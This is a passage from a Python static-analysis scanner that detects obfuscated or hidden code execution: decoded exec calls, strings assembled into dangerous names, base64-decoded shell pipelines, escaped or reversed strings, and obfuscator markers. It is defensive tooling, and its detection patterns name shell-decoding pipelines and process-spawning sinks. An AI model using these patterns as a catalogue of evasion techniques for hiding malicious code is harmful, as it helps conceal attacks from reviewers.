    inner = _value(ctx, site.args[0], depth + 1)
    if inner is None:
        return None
    option: Const | int | None = None
    if name == "codecs.decode":
        encoding = site.arg(1, "encoding")
        option = None if encoding is None else ctx.const(encoding)
        if option is None:
            return None
    return decode_value(name, inner, option)


def _inside_decoder_or_exec(ctx: Context, node: Node) -> bool:
    """Only the outermost decoder reports, and not when an exec sink right above does (GH150)."""
    current = node
    for _ in range(6):
        parent = current.parent
        if parent is None:
            return False
        if parent.type in {"argument_list", "attribute", "parenthesized_expression"}:
            current = parent
            continue
        if parent.type == "call":
            function = parent.child_by_field_name("function")
            name = None if function is None else ctx.qualname(function)
            if name in _DECODER_CALLS or name in _EXEC_SINKS or name == "marshal.loads":
                return True
            if name in {"codecs.decode"}:
                return True
            current = parent
            continue
        return False
    return False


# --------------------------------------------------------------------------------------------
# GH153/GH154: dangerous names reached by strings

_LOOKUP_CALLS = frozenset({"getattr", "builtins.getattr", "operator.attrgetter"})
_IMPORT_CALLS = frozenset(
    {"__import__", "builtins.__import__", "importlib.import_module", "importlib.__import__"}
)
_NAMESPACES = frozenset({"builtins", "__builtins__", "__builtin__"})
#: how an assembled name was built, most telling first
_HOW = {
    "base64": "base64 decoding", "base32": "base32 decoding", "base85": "base85 decoding",
    "hex": "hex decoding", "rot13": "rot13", "zlib": "zlib", "gzip": "gzip", "bz2": "bz2",
    "lzma": "lzma", "xor": "XOR", "character codes": "character codes",
    "reversal": "reversing a string", "join": "joining pieces", "formatting": "formatting",
    "concatenation": "string concatenation", "repetition": "repetition",
}  # fmt: skip


def _how(folded: Folded) -> str:
    for step in _HOW:
        if step in folded.steps:
            return _HOW[step]
    return "computation"


def _name_value(ctx: Context, node: Node, resolve: bool = True) -> tuple[Folded, bool] | None:
    """The folded name and whether it was hidden (here or in the variable it came from)."""
    folded = fold(ctx.module, node)
    if folded is None and resolve and node.type == "identifier":
        values = assigned_values(ctx, node)
        if len(values) == 1:
            folded = fold(ctx.module, values[0])
    if folded is None or not isinstance(folded.value, str):
        return None
    return folded, folded.hidden or _escaped(ctx, node)


def _escaped(ctx: Context, node: Node) -> bool:
    """A string literal that spells letters in escape sequences (`"\\x73\\x79..."`)."""
    if node.type != "string":
        return False
    parts = [g for c in node.named_children for g in (c, *c.named_children)]
    return any(
        c.type == "escape_sequence" and _LETTER_ESCAPE.fullmatch(ctx.text(c).encode())
        for c in parts
    )


def _dangerous_attribute(base: str | None, attribute: str) -> bool:
    if attribute in _ALWAYS_DANGEROUS:
        return True
    if base in _NAMESPACES:
        return attribute in _BUILTIN_DANGERS or attribute == "getattr"
    return base is not None and bool(_LOOKUP_DANGERS.match(f"{base}.{attribute}"))


def _lookup_hit(ctx: Context, site: CallSite, hidden_wanted: bool) -> Iterator[Hit]:
    name = site.name or ""
    if name in _LOOKUP_CALLS:
        key = site.arg(0) if name == "operator.attrgetter" else site.arg(1)
        base_node = None if name == "operator.attrgetter" else site.arg(0)
        if key is None:
            return
        base = None if base_node is None else ctx.qualname(base_node)
        # `getattr(obj, name)` is everywhere; follow the variable only on modules that matter
        found = _name_value(
            ctx, key, resolve=hidden_wanted and base in _NAMESPACES | _MODULE_DANGERS
        )
        if found is None:
            return
        folded, hidden = found
        attribute = str(folded.value)
        if not _dangerous_attribute(base, attribute):
            return
        if hidden_wanted and hidden:
            shown = f"{base}.{attribute}" if base else attribute
            yield Hit.at(site.node, name=shown, how=_how_or_escapes(folded, ctx, key))
        elif not hidden_wanted and not hidden and base in _NAMESPACES | _MODULE_DANGERS:
            if _feature_test(site) or in_test_code(ctx, site.node):
                return
            yield Hit.at(site.node, name=f"{base}.{attribute}", how="`getattr` with a string")
        return
    if name in _IMPORT_CALLS:
        module_node = site.arg(0, "name")
        if module_node is None:
            return
        found = _name_value(ctx, module_node)
        if found is None:
            return
        folded, hidden = found
        module = str(folded.value)
        if module.split(".")[0] not in _MODULE_DANGERS and module not in _MODULE_DANGERS:
            return
        if hidden_wanted and hidden:
            yield Hit.at(site.node, name=module, how=_how_or_escapes(folded, ctx, module_node))
        elif not hidden_wanted and not hidden and name != "importlib.import_module":
            parent = site.node.parent
            if parent is None or parent.type != "attribute" or in_test_code(ctx, site.node):
                return
            attr = parent.child_by_field_name("attribute")
            attribute = "" if attr is None else ctx.text(attr)
            if _dangerous_attribute(module, attribute):
                yield Hit.at(parent, name=f"{module}.{attribute}", how="`__import__` inline")


def _how_or_escapes(folded: Folded, ctx: Context, node: Node) -> str:
    return "escape sequences" if not folded.hidden and _escaped(ctx, node) else _how(folded)


def _feature_test(site: CallSite) -> bool:
    """`getattr(os, "fork", None)`: asking whether the platform has it."""
    return len(site.args) >= 3 or "default" in site.keywords


#: namespace dictionaries indexed by a name: `globals()[...]`, `__builtins__.__dict__[...]`;
#: one pattern per spelling so that each starts with a literal (fast to scan for)
_NAMESPACE_LOOKUPS = tuple(
    re.compile(pattern)
    for pattern in (
        rb"__builtins__",
        rb"globals\(\)\s*[\[.]",
        rb"locals\(\)\s*[\[.]",
        rb"vars\([\w. ]*\)\s*[\[.]",
        rb"\.__dict__\s*[\[.]",
    )
)


_NAMESPACE_TEXT = re.compile(r"(?:globals|locals|vars)\s*\(|__builtins__|\.__dict__$")


def _is_namespace(text: str) -> bool:
    """`globals()`, `vars(x)`, `__builtins__`, `builtins.__dict__`: a dictionary of names."""
    return bool(_NAMESPACE_TEXT.match(text) or _NAMESPACE_TEXT.search(text))


def _namespace_key(ctx: Context, m: TextMatch) -> tuple[Node, Node, str] | None:
    """(expression, key, container) for a namespace lookup at the match."""
    if not _in_code(ctx, m.start):
        return None
    node = ctx.node_at(m.start, m.end - 1)
    for _ in range(6):
        if node.type == "subscript":
            key = node.child_by_field_name("subscript")
            if key is not None and key.start_byte >= m.end - 1:
                value = node.child_by_field_name("value")
                return node, key, "" if value is None else ctx.text(value)
        if node.type == "call" and node.start_byte <= m.start:
            function = node.child_by_field_name("function")
            if function is not None and ctx.text(function).endswith(".get"):
                site = ctx.call_site(node)
                key = site.arg(0)
                obj = site.receiver
                if key is not None and obj is not None:
                    return node, key, ctx.text(obj)
        if node.parent is None:
            return None
        node = node.parent
    return None


def _namespace_hit(ctx: Context, m: TextMatch, hidden_wanted: bool) -> Iterator[Hit]:
    found = _namespace_key(ctx, m)
    if found is None:
        return
    expression, key, container = found
    if not _is_namespace(container):
        return
    named = _name_value(ctx, key)
    if named is None:
        return
    folded, hidden = named
    value = str(folded.value)
    modules = container.startswith("sys.modules")
    if modules:
        dangerous = value in _MODULE_DANGERS
    else:
        dangerous = value in _BUILTIN_DANGERS or value in _ALWAYS_DANGEROUS
    if not dangerous:
        return
    if hidden_wanted and hidden:
        yield Hit.at(expression, name=value, how=_how_or_escapes(folded, ctx, key))
    elif not hidden_wanted and not hidden and not modules and not in_test_code(ctx, expression):
        what = container if len(container) <= 32 else "a namespace dictionary"
        yield Hit.at(expression, name=value, how=f"`{what}[...]`")


def _computed_name_call(ctx: Context, site: CallSite) -> Iterator[Hit]:
    return _lookup_hit(ctx, site, hidden_wanted=True)


def _indirect_lookup_call(ctx: Context, site: CallSite) -> Iterator[Hit]:
    return _lookup_hit(ctx, site, hidden_wanted=False)


def _computed_name_text(ctx: Context, m: TextMatch) -> Iterator[Hit]:
    return _namespace_hit(ctx, m, hidden_wanted=True)


def _indirect_lookup_text(ctx: Context, m: TextMatch) -> Iterator[Hit]:
    return _namespace_hit(ctx, m, hidden_wanted=False)


# --------------------------------------------------------------------------------------------
# GH155: decoded shell commands

_PROCESS_CALLS = _names(
    """
    os.system os.popen os.popen2 os.popen3 os.popen4 platform.popen subprocess.getoutput
    subprocess.getstatusoutput commands.getoutput commands.getstatusoutput
    asyncio.create_subprocess_shell asyncio.create_subprocess_exec subprocess.run
    subprocess.call subprocess.check_call subprocess.check_output subprocess.Popen pty.spawn
    os.execl os.execle os.execlp os.execlpe os.execv os.execve os.execvp os.execvpe os.spawnl
    os.spawnle os.spawnlp os.spawnlpe os.spawnv os.spawnve os.spawnvp os.spawnvpe
    os.posix_spawn os.posix_spawnp pexpect.spawn pexpect.run os.startfile
    """
)
_DECODE_PIPE = re.compile(
    r"\b(?:base64\s+(?:-d|--decode|-D)|xxd\s+-r|openssl\s+(?:enc\s+)?(?:-d\s+)?-?base64\s+-d"
    r"|rev\b)[^|;&]*\|\s*(?:ba|z|da)?sh\b|\|\s*(?:base64\s+(?:-d|--decode|-D)|xxd\s+-r\s*-?p?)"
    r"\s*\|\s*(?:ba|z|da|k)?sh\b",
)


def _other_family_content(ctx: Context, node: Node) -> bool:
    """A decoded command that downloads, exfiltrates or persists: those families report it."""
    from .execution import _OTHER_FAMILY_COMMAND

    folded = _resolved(ctx, node)
    text = None if folded is None else _as_text(folded.value)
    return text is not None and bool(_OTHER_FAMILY_COMMAND.search(text))


def _decoded_shell(ctx: Context, site: CallSite) -> Iterator[Hit]:
    sink = site.name or site.method or "exec_command"
    arguments = list(site.args)
    for candidate in arguments[:1] if not sink.startswith(("os.exec", "os.spawn")) else arguments:
        items = [candidate]
        if candidate.type in {"list", "tuple"}:
            items = [c for c in candidate.named_children if c.type != "comment"]
        for item in items:
            step = decoding_step(ctx, item)
            if step is not None and _other_family_content(ctx, step.node):
                return
            if step is not None:
                related = (
                    Related(step.node.start_byte, step.node.end_byte, f"hidden by {step.how}"),
                )
                yield Hit.at(site.node, related=related, sink=sink, how=step.how)
                return
            value = ctx.const(item)
            text = _as_text(value) if value is not None else None
            if text is not None and _DECODE_PIPE.search(text):
                yield Hit.at(site.node, sink=sink, how="a decoding pipeline in the shell")
                return


# --------------------------------------------------------------------------------------------
# GH156-GH158: strings spelled in escapes, character codes or backwards

#: an escape for a printable ASCII character: \x41, \u0041, \101
_ESCAPE = (
    rb"\\(?:x[2-7][0-9a-fA-F]|u00[2-7][0-9a-fA-F]|U0000[2-7][0-9a-fA-F]|1[0-7][0-7]"
    rb"|0?[4-7][0-7](?![0-7]))"
)
#: starts with a literal backslash, which `re` finds quickly
_ESCAPE_RUN = re.compile(_ESCAPE + rb"(?:" + _ESCAPE + rb"){3,}")
_LETTER_ESCAPE = re.compile(_ESCAPE)


def _escaped_literal(ctx: Context, m: TextMatch) -> Iterator[Hit]:
    string = ctx.node_at(m.start, m.end)
    while string.type not in {"string", "module"} and string.parent is not None:
        string = string.parent
    if string.type != "string" or string.start_byte > m.start:
        return
    folded = fold(ctx.module, string)
    value: Const | None = folded.value if folded is not None else None
    if value is None:
        return
    revealed = reveals(value) or reveals(_decode_escapes(m.match.group(0)))
    if revealed is None or _consumed_by_lookup(ctx, string) or in_test_code(ctx, string):
        return
    yield Hit.at(string, what=revealed)


def _decode_escapes(raw: bytes) -> str:
    return re.sub(
        rb"\\(x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|U[0-9a-fA-F]{8}|[0-7]{1,3})",
        lambda g: chr(
            int(g.group(1)[1:], 16) if g.group(1)[:1] in b"xuU" else int(g.group(1), 8)
        ).encode("utf-8"),
        raw,
    ).decode("utf-8", "replace")


def _consumed_by_lookup(ctx: Context, node: Node) -> bool:
    """The hidden text is a name looked up or executed right here: GH150/GH153 report that."""
    current = node
    for _ in range(4):
        parent = current.parent
        if parent is None:
            return False
        if parent.type == "subscript" and parent.child_by_field_name("subscript") == current:
            value = parent.child_by_field_name("value")
            return value is not None and _is_namespace(ctx.text(value))
        if parent.type == "call":
            function = parent.child_by_field_name("function")
            name = None if function is None else ctx.qualname(function)
            if name in _LOOKUP_CALLS | _IMPORT_CALLS | _EXEC_SINKS:
                return True
            if function is not None and ctx.text(function).endswith(".get"):
                return True
            if name not in {"str", "bytes"} and not ctx.text(function or parent).endswith(
                (".decode", ".encode")
            ):
                return False
        current = parent
    return False


def _char_code_string(ctx: Context, site: CallSite) -> Iterator[Hit]:
    name = site.name
    if name == "map" and (not site.args or ctx.text(site.args[0]) != "chr"):
        return
    if name in {"bytes", "bytearray"} and not (
        site.args
        and site.args[0].type in {"list", "tuple", "generator_expression", "list_comprehension"}
    ):
        return
    top = _chain_top(ctx, site.node)
    if top is not None:
        yield from _revealed(ctx, top, CHAR_CODES)


def _revealed(ctx: Context, node: Node, step: str) -> Iterator[Hit]:
    """A constant built with `step` that spells something worth hiding, unless it is only a
    lookup key or sits in test code."""
    folded = fold(ctx.module, node)
    if folded is None or step not in folded.steps:
        return
    revealed = reveals(folded.value)
    if revealed is None or _consumed_by_lookup(ctx, node) or in_test_code(ctx, node):
        return
    yield Hit.at(node, what=revealed)


def _chain_top(ctx: Context, node: Node) -> Node | None:
    """The largest expression around a chr()/map()/bytes() call that folds to a constant."""
    best: Node | None = node if fold(ctx.module, node) is not None else None
    current = node
    for _ in range(6):
        parent = current.parent
        if parent is None or parent.type in {"expression_statement", "block", "module"}:
            break
        if parent.type not in {"argument_list", "for_in_clause", "generator_expression",
                               "list_comprehension", "list", "tuple", "parenthesized_expression",
                               "binary_operator", "call", "attribute"}:  # fmt: skip
            break
        current = parent
        if current.type in {"call", "binary_operator"} and fold(ctx.module, current) is not None:
            best = current
    return best


_REVERSE_SLICE = re.compile(rb"\[::-1\]")


def _reversed_call(ctx: Context, site: CallSite) -> Iterator[Hit]:
    """`"".join(reversed(CMD))`: the same trick as `CMD[::-1]`, spelled with a builtin."""
    top = _chain_top(ctx, site.node)
    if top is not None and top is not site.node:
        yield from _revealed(ctx, top, REVERSAL)


def _reversed_string(ctx: Context, m: TextMatch) -> Iterator[Hit]:
    if not _in_code(ctx, m.start):
        return
    node = ctx.node_at(m.start, m.end)
    while node.type != "subscript" and node.parent is not None and node.type != "module":
        node = node.parent
    if node.type == "subscript":
        yield from _revealed(ctx, node, REVERSAL)


# --------------------------------------------------------------------------------------------
# GH160/GH161: obfuscator output

#: obfuscator-style names, one pattern per shape so that each starts with a literal (fast)
_OBFUSCATED_NAMES = tuple(
    re.compile(pattern + rb"(?!\w)")
    for pattern in (
        rb"_0x[0-9a-fA-F]{4,}",
        rb"O[O0]{5,}",
        rb"I[Il1]{5,}",
        rb"l[Il1]{5,}",
        rb"____+",
    )
)
_MIN_DISTINCT = 3


def _obfuscated_name(source: bytes, match: re.Match[bytes]) -> bool:
    """A whole identifier that mixes look-alike characters (`O0O0OO`, `lIl1lI`, `_0x1f2e`)."""
    start = match.start()
    if start > 0 and (source[start - 1 : start].isalnum() or source[start - 1 : start] in b"_."):
        return False
    text = match.group(0)
    if text.startswith(b"_"):
        return text.startswith(b"_0x") or len(set(text)) == 1
    if text.startswith(b"O"):
        return b"0" in text
    return len(set(text)) >= 2


def _obfuscated_names(ctx: Context, start: int, end: int) -> list[tuple[int, bytes]]:
    """(offset, name) of every obfuscator-style identifier in the range, in order (memoised)."""
    memo = _cache(ctx, "names")
    if (start, end) not in memo:
        found = [
            (m.start(), m.group(0))
            for pattern in _OBFUSCATED_NAMES
            for m in pattern.finditer(ctx.source, start, end)
            if _obfuscated_name(ctx.source, m) and _in_code(ctx, m.start())
        ]
        memo[(start, end)] = sorted(found)
    names: list[tuple[int, bytes]] = memo[(start, end)]
    return names


def _obfuscator_identifiers(ctx: Context, m: TextMatch) -> Iterator[Hit]:
    names = _obfuscated_names(ctx, m.match.pos, m.match.endpos)
    if not names or names[0][0] != m.start:
        return  # only the first one in the analysed range reports
    distinct = {name for _, name in names}
    if len(distinct) < _MIN_DISTINCT:
        return
    node = ctx.node_at(m.start, m.end)
    yield Hit.at(node, example=m.match.group(0).decode("ascii")[:24], count=str(len(distinct)))


_OBFUSCATOR_MARKER = re.compile(
    rb"__pyarmor__|\bpyarmor_runtime\b|__armor_(?:enter|exit|wrap)__|\bfrom\s+pytransform\s+import"
    rb"|#\s*(?:[Oo]bfuscated|OBFUSCATED)\s+(?:with|by|using|WITH|BY)\s+\w+"
)


def _obfuscator_runtime(ctx: Context, m: TextMatch) -> Iterator[Hit]:
    text = m.match.group(0)
    if not text.startswith(b"#") and not _in_code(ctx, m.start):
        return
    yield Hit(m.start, m.end, {"marker": " ".join(text.decode("ascii", "replace").split())[:40]})


# --------------------------------------------------------------------------------------------

RULES = [
    CallRule(DECODED_EXEC, _decoded_exec, names=_EXEC_SINKS),
    CallRule(MARSHAL_BYTECODE, _marshal, names=frozenset({"marshal.loads"})),
    CallRule(
        ENCODED_CODE_BLOB,
        _encoded_blob,
        names=frozenset(_DECODER_CALLS) | {"codecs.decode"},
    ),
    CallRule(COMPUTED_NAME, _computed_name_call, names=_LOOKUP_CALLS | _IMPORT_CALLS),
    *(TextRule(COMPUTED_NAME, p, _computed_name_text) for p in _NAMESPACE_LOOKUPS),
    CallRule(INDIRECT_LOOKUP, _indirect_lookup_call, names=_LOOKUP_CALLS | _IMPORT_CALLS),
    *(TextRule(INDIRECT_LOOKUP, p, _indirect_lookup_text) for p in _NAMESPACE_LOOKUPS),
    CallRule(
        DECODED_SHELL,
        _decoded_shell,
        names=_PROCESS_CALLS,
        methods=frozenset({"exec_command"}),
    ),
    TextRule(ESCAPED_LITERAL, _ESCAPE_RUN, _escaped_literal),
    CallRule(
        CHAR_CODE_STRING,
        _char_code_string,
        names=frozenset({"chr", "map", "bytes", "bytearray"}),
    ),
    TextRule(REVERSED_STRING, _REVERSE_SLICE, _reversed_string),
    CallRule(REVERSED_STRING, _reversed_call, names=frozenset({"reversed"})),
    CallRule(
        CODE_OBJECT,
        _code_object,
        names=_CODE_TYPES,
        keywords=frozenset({"co_code"}),
    ),
    *(TextRule(OBFUSCATED_IDENTIFIERS, p, _obfuscator_identifiers) for p in _OBFUSCATED_NAMES),
    TextRule(OBFUSCATOR_RUNTIME, _OBFUSCATOR_MARKER, _obfuscator_runtime),
    CallRule(LITERAL_CODE_EXEC, _literal_code_exec, names=_EXEC_SINKS),
]
